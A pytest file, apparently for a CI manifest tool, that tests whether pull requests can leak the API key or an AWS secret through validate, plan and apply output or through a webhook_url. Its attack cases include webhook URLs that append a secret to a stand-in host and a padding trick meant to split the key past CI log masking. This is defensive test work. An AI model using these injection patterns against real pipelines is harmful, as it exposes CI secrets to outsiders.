"""Issue 12, item 1, as an attacker does it: a pull request changes the manifest so that the
API key (or another secret of the CI job) is printed by ``validate`` or ``plan`` — written
into ``plan.md``, the job summary and the PR comment — or, after merge, sent by ``apply``
to another host in a ``webhook_url``.

The reviewed ``main`` is a manifest applied against a real sandbox on loopback, its
lockfile committed; each attack is one commit on a ``pr`` branch; every command runs as a
subprocess with the key (and an AWS secret) in its environment, as CI would. Closed when:
each attack is an error at its file:line:col naming the key path, no output and no file
holds any 8-character piece of a secret, and apply sends nothing (the sandbox's ledger is
unchanged, the lockfile untouched).

And the declared way works: ``variables: [LORA_WEBHOOK]`` with ``webhook_url:
${LORA_WEBHOOK}`` sends the value in the request (the sandbox stored it) while no output,
log, trace or file shows it — only ``${LORA_WEBHOOK}``.
"""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from leaksupport import (
    AWS,
    HOOK,
    HOOK_SECRET,
    KEY,
    Run,
    assert_no_leak,
    commit,
    environment,
    git,
    leaked,
    lock_doc,
    make_repo,
    manifest_text,
    pull_request,
    run,
)
from support.apply import ledger, sandbox

from runner.shipped_schemas import load_schema


@dataclass
class World:
    url: str
    state: Path
    template: Path  # the reviewed repository, cloned for each attack


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """A sandbox on loopback and a reviewed repository applied against it."""
    root = tmp_path_factory.mktemp("variables")
    state = root / "sandbox-state"  # outside the repository: the sandbox keeps hashes of keys
    with sandbox(state, train_seconds=0.05) as url:
        repo = make_repo(root, manifest_text(url))
        applied = run("apply", "m.yaml", cwd=repo)
        assert applied.code == 0, applied.text
        commit(repo, "apply: lockfile", "m.lock.yaml")
        yield World(url, state, repo)


@pytest.fixture
def repo(world: World, tmp_path: Path) -> Path:
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(world.template), str(clone))
    return clone


# (id, extra top-level text, api text, defaults text, extra jobs text, the error's place and words)
ATTACKS = [
    (
        "name",
        "", "", "",
        "  - name: \"${VIMMERSE_API_KEY}\"\n    images: data/extra\n",
        ("m.yaml:13:12: jobs[2].name: ", "variables are only expanded in webhook_url"),
    ),
    (
        # Messages clip a long value to its head and tail: the key placed across the head's
        # cut in one image path and across the tail's in another once printed its two
        # halves, each too short for CI log masking to recognise.
        "clipped-halves",
        "", "", "",
        "  - name: extra\n    images:\n"
        "      - \"" + "i" * 162 + "${VIMMERSE_API_KEY}" + "i" * 400 + "\"\n"
        "      - \"" + "j" * 400 + "${VIMMERSE_API_KEY}" + "j" * 82 + "\"\n",
        ("m.yaml:15:172: jobs[2].images[0]: ", "variables are only expanded in webhook_url"),
    ),
    (
        "webhook-to-another-host",
        "", "", "",
        "  - name: extra\n    images: data/extra\n    webhook_url: https://hooks.example/x?k=${VIMMERSE_API_KEY}\n",
        ("m.yaml:15:44: jobs[2].webhook_url: ", "VIMMERSE_API_KEY holds the API key (api.api_key_env) and can never be expanded"),
    ),
    (
        "key-declared-as-variable",
        "variables: [VIMMERSE_API_KEY]\n", "", "  webhook_url: https://hooks.example/x?k=${VIMMERSE_API_KEY}\n",
        "",
        ("m.yaml:2:13: variables[0]: ", "VIMMERSE_API_KEY holds the API key (api.api_key_env) and can never be expanded"),
    ),
    (
        # Renaming api_key_env does not make the real key's variable expandable.
        "key-variable-renamed",
        "variables: [VIMMERSE_API_KEY]\n", "  api_key_env: LORA_KEY\n",
        "  webhook_url: https://hooks.example/x?k=${VIMMERSE_API_KEY}\n", "",
        ("m.yaml:2:13: variables[0]: ", "VIMMERSE_API_KEY is the API key's default variable and can never be expanded"),
    ),
    (
        "undeclared-variable",
        "", "", "  webhook_url: https://hooks.example/x?k=${AWS_SECRET_ACCESS_KEY}\n", "",
        ("m.yaml:7:42: defaults.webhook_url: ", "AWS_SECRET_ACCESS_KEY is not declared in variables"),
    ),
]


@pytest.mark.parametrize("head, api, defaults, jobs, expected", [a[1:] for a in ATTACKS], ids=[a[0] for a in ATTACKS])
def test_pull_request_cannot_print_or_send_a_secret(
    world: World, repo: Path, head: str, api: str, defaults: str, jobs: str, expected: tuple[str, str]
) -> None:
    pull_request(repo, manifest_text(world.url, head=head, api=api, defaults=defaults, jobs=jobs))
    place, words = expected
    before = ledger(world.url, KEY)
    lock_before = (repo / "m.lock.yaml").read_bytes()
    runs: list[Run] = []

    # CI on the pull request: validate, then the plan written to plan.md for the comment.
    for argv in (["validate", "m.yaml"], ["validate", "m.yaml", "--format", "json"]):
        result = run(*argv, cwd=repo)
        assert result.code == 1, result.text
        runs.append(result)
    assert any(line.startswith(place) and words in line for line in runs[0].stdout.splitlines()), runs[0].stdout
    diagnostics = json.loads(runs[1].stdout)["diagnostics"]
    assert any(words in d["message"] and d["severity"] == "error" for d in diagnostics)
    for fmt in ("markdown", "json", "text"):
        result = run("plan", "m.yaml", "--format", fmt, "--detailed-exitcode", cwd=repo)
        (repo / f"plan.{fmt}").write_text(result.stdout, encoding="utf-8")
        assert result.code == 1 and words in result.stderr, result.text
        runs.append(result)
    # And after merge: apply (and a refresh) refuse the manifest before anything is sent.
    for argv in (["plan", "m.yaml", "--refresh"], ["apply", "m.yaml"], ["apply", "m.yaml", "-v", "--log-format", "json"],
                 ["status", "m.yaml", "--refresh"]):
        result = run(*argv, cwd=repo)
        assert result.code == 1 and words in result.stderr, (argv, result.text)
        runs.append(result)

    assert_no_leak([KEY, AWS], runs=runs, roots=[repo])
    after = ledger(world.url, KEY)
    assert (after["posts"], after["status_checks"]) == (before["posts"], before["status_checks"])
    assert ledger(world.url, AWS)["posts"] == 0
    assert (repo / "m.lock.yaml").read_bytes() == lock_before


def test_a_message_quoting_a_long_value_holds_no_piece_of_the_key(world: World, repo: Path) -> None:
    """The clipped messages themselves: each names the field and shows the source text."""
    pull_request(repo, manifest_text(world.url, jobs=ATTACKS[1][4]))
    result = run("validate", "m.yaml", cwd=repo)
    assert result.code == 1
    assert "${VIMMERSE_API_KEY}" not in result.stdout  # not even the source: the value is clipped
    assert leaked(result.stdout, [KEY]) == []
    assert result.stdout.count("variables are only expanded in webhook_url") == 2, result.stdout
    assert "jobs[2].images[0]: " in result.stdout and "jobs[2].images[1]: " in result.stdout


# -- the declared way ---------------------------------------------------------------------------


def _declared(url: str) -> str:
    return manifest_text(url, head="variables: [LORA_WEBHOOK]\n", defaults="  webhook_url: ${LORA_WEBHOOK}\n")


def test_declared_variable_reaches_only_the_request(world: World, repo: Path) -> None:
    """LORA_WEBHOOK is sent with each job (the sandbox stored it) and shown nowhere:
    validate, plan in every format, apply with JSON logs and a trace, status, output,
    the lockfile and every cache show ``${LORA_WEBHOOK}`` or nothing."""
    pull_request(repo, _declared(world.url) + "  - name: extra\n    lora_prefix: EXTRA\n    images: data/extra\n")
    env = environment(LORA_WEBHOOK=HOOK)
    runs = [run("validate", "m.yaml", cwd=repo, env=env), run("validate", "m.yaml", "--format", "json", cwd=repo, env=env)]
    assert all(r.code == 0 for r in runs), runs[0].text
    for fmt in ("text", "json", "markdown"):
        result = run("plan", "m.yaml", "--format", fmt, cwd=repo, env=env)
        assert result.code == 0, result.text
        assert "LORA_WEBHOOK" in result.stdout  # the plan says which variables apply sends
        runs.append(result)
    doc = json.loads(runs[3].stdout)
    assert doc["trust"]["variables"] == ["LORA_WEBHOOK"]
    from jsonschema import Draft202012Validator

    Draft202012Validator(load_schema("plan")).validate(doc)

    applied = run("apply", "m.yaml", "-v", "--log-format", "json", "--trace-http", "trace.jsonl", cwd=repo, env=env)
    assert applied.code == 0, applied.text
    runs.append(applied)
    for argv in (["status", "m.yaml"], ["status", "m.yaml", "--format", "json"], ["output", "m.yaml", "--format", "json"]):
        result = run(*argv, cwd=repo, env=env)
        assert result.code == 0, result.text
        runs.append(result)

    assert_no_leak([HOOK_SECRET, KEY], runs=runs, roots=[repo])
    trace = (repo / "trace.jsonl").read_text(encoding="utf-8")
    assert '"webhook_url"' in trace and "***" in trace  # sent, and masked in the trace
    # The value itself reached the request: the sandbox stored the new job's webhook.
    with sqlite3.connect(world.state / "sandbox.sqlite3") as db:
        hooks = {row[0] for row in db.execute("SELECT webhook_url FROM assets WHERE trigger_word LIKE 'EXTRA_%'")}
    assert hooks == {HOOK}


def test_unset_declared_variable_plan_warns_apply_refuses(world: World, repo: Path) -> None:
    """A pull-request pipeline has no secrets: validate and plan still work (a warning
    at the ``${``); apply refuses, naming the place, and sends nothing."""
    pull_request(repo, _declared(world.url) + "  - name: extra\n    images: data/extra\n")
    env = environment()
    validated = run("validate", "m.yaml", cwd=repo, env=env)
    assert validated.code == 0, validated.text
    assert "m.yaml:8:16: warning: defaults.webhook_url: ${LORA_WEBHOOK}: environment variable LORA_WEBHOOK is not set" in validated.stdout
    planned = run("plan", "m.yaml", "--format", "markdown", cwd=repo, env=env)
    assert planned.code == 0 and "| create | `extra` |" in planned.stdout, planned.text
    before = ledger(world.url, KEY)
    lock_before = (repo / "m.lock.yaml").read_bytes()
    applied = run("apply", "m.yaml", cwd=repo, env=env)
    assert applied.code == 1
    assert "m.yaml:8:16: defaults.webhook_url: ${LORA_WEBHOOK}: environment variable LORA_WEBHOOK is not set" in applied.stderr
    assert "nothing was submitted" in applied.stderr
    after = ledger(world.url, KEY)
    assert (after["posts"], after["status_checks"]) == (before["posts"], before["status_checks"])
    assert (repo / "m.lock.yaml").read_bytes() == lock_before


def test_a_bad_expanded_value_is_named_by_its_source(world: World, repo: Path) -> None:
    """A value that is not a URL is reported as ``${LORA_WEBHOOK}``, never quoted."""
    pull_request(repo, _declared(world.url))
    secret = "ftp://files.example/" + HOOK_SECRET
    result = run("validate", "m.yaml", cwd=repo, env=environment(LORA_WEBHOOK=secret))
    assert result.code == 1
    assert "m.yaml:8:16: defaults.webhook_url: ${LORA_WEBHOOK} does not expand to an http(s) URL" in result.stdout
    assert leaked(result.stdout + result.stderr, [secret]) == []


def test_manifest_without_variables_is_unchanged(world: World, repo: Path) -> None:
    """No ``variables`` and no ``${``: the reviewed main plans as before (no change)."""
    result = run("plan", "m.yaml", "--detailed-exitcode", cwd=repo)
    assert result.code == 0, result.text
    assert "No changes" in result.stdout
    assert lock_doc(repo / "m.lock.yaml")["jobs"]["hero"]["api_key_env"] == "VIMMERSE_API_KEY"
